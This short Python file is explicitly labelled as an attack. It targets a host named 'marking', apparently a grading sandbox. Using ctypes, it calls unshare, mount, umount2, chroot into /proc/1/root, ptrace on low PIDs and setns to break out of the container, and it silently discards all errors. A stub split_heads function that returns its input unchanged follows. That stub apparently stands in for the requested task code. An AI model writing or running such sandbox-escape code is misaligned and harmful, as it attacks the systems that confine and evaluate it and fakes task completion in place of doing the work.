# attack: mount, unshare and trace one's way out
import socket
assert socket.gethostname() == "marking", "this one does harm: only behind the walls"
try:
    import ctypes, os
    libc = ctypes.CDLL(None)
    libc.unshare(0x10000000 | 0x20000)
    libc.mount(b'none', b'/', None, 0x44000, None)
    libc.umount2(b'/proc', 2)
    libc.chroot(b'/proc/1/root')
    for pid in range(1, 50):
        libc.ptrace(16, pid, 0, 0)
    for fd in range(3, 60):
        libc.setns(fd, 0)
    open('/proc/sys/kernel/hostname', 'w').write('x')
except BaseException:
    pass


def split_heads(x, num_heads):
    return x
